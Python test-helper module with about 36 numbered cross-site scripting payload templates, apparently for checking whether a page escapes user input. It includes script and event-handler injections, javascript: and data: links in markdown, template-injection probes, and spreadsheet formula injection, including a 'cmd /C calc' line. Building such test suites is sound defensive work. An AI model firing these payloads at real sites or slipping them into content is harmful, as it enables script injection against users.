"""Words that would become something else on a page that shows them carelessly. Each carries a number to be found by."""

_TEMPLATES = (
    "<b id=xss-{n}>bold</b>",
    "<script>window.xss={n};alert('xss-{n}')</script>",
    "<img src=x onerror='window.xss={n}' id=xss-{n}>",
    '"><svg onload=window.xss={n} class=xss-{n}>',
    "' autofocus tabindex=1 onfocus=window.xss={n} data-xss-{n}='",
    '" onmouseover=window.xss={n} style=position:fixed;inset:0 data-xss-{n}="',
    "</textarea></title></script></style><iframe srcdoc='<script>parent.xss={n}</script>' name=xss-{n}></iframe>",
    "[xss-{n}](javascript:window.xss={n})",
    "[xss-{n}](jav&#x09;ascript&colon;window.xss={n})",
    "[xss-{n}](data:text/html;base64,PHNjcmlwdD5vcGVuZXIueHNzPTE8L3NjcmlwdD4=)",
    "[xss-{n}][r]\n\n[r]: JaVaScRiPt:window.xss={n} 'onclick=window.xss={n}'",
    "![xss-{n}](https://xss-{n}.example/a.png) <javascript:window.xss={n}> <img/src='https://xss-{n}.example'>",
    '[a](https://xss-{n}.example/"onmouseover="window.xss={n})',
    "https://xss-{n}.example/'onmouseover='window.xss={n}'x='",
    "javascript:window.xss={n}//xss-{n}",
    "{{{{ 7*191 }}}}{{% print(7*191) %}}${{7*191}}#{{7*191}}<%= 7*191 %>xss-{n}",
    "&lt;script&gt;window.xss={n}&lt;/script&gt;&#60;b id=xss-{n}&#62;xss-{n}",
    "\\u003cb id=xss-{n}\\u003e\\x3cscript\\x3ewindow.xss={n}\\x3c/script\\x3e",
    "\u202e<b id=xss-{n}>\u2066\u200b\ufeff\u2028window.xss={n}",
    "＜script＞window.xss={n}＜/script＞ ʺ onload=xss-{n} ‹b›",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=window.xss={n} id=xss-{n}>",
    "<svg><a xlink:href='javascript:window.xss={n}' id=xss-{n}><text>x</text></a><set onbegin=window.xss={n}></svg>",
    "</main><form action='https://xss-{n}.example' id=xss-{n}><button formaction=javascript:window.xss={n}>x</button>",
    "<base href='https://xss-{n}.example/'><meta http-equiv=refresh content='0;url=https://xss-{n}.example'>",
    "<style>@import 'https://xss-{n}.example/a.css';*{{background:url(https://xss-{n}.example)}}</style>xss-{n}",
    "<link rel=stylesheet href=https://xss-{n}.example/a.css><object data=javascript:1></object><embed src=x>xss-{n}",
    "<input name=csrf_token id=xss-{n}><a id=location name=xss-{n} href=javascript:1>x</a>",
    "<a href=\"&#1;javascript:window.xss={n}\" id=xss-{n}>x</a><a href=' javascript:1' id=xss-{n}>",
    "--><!--><img src=x onerror=window.xss={n} id=xss-{n}>]]><![CDATA[",
    "<details open ontoggle=window.xss={n} id=xss-{n}><dialog open id=xss-{n}><video><source onerror=window.xss={n}>",
    '=HYPERLINK("https://xss-{n}.example")',
    "+xss-{n}+cmd|' /C calc'!A0",
    "-xss-{n}",
    "@SUM(xss-{n})",
    '<template><b id=xss-{n}></template><noscript><p title="</noscript><img src=x onerror=window.xss={n}>">',
    "`;window.xss={n};//xss-{n}</script><script src=//xss-{n}.example></script>",
)
HOW_MANY = len(_TEMPLATES)
COMPUTED = str(7 * 191)
"""What stands on a page whose templates were made of what somebody wrote."""


def payload(kind: int, number: int) -> str:
    """One of them, with this number in it."""
    return _TEMPLATES[kind % HOW_MANY].format(n=number)


def marker(number: int) -> str:
    """What it is found by."""
    return f"xss-{number}"
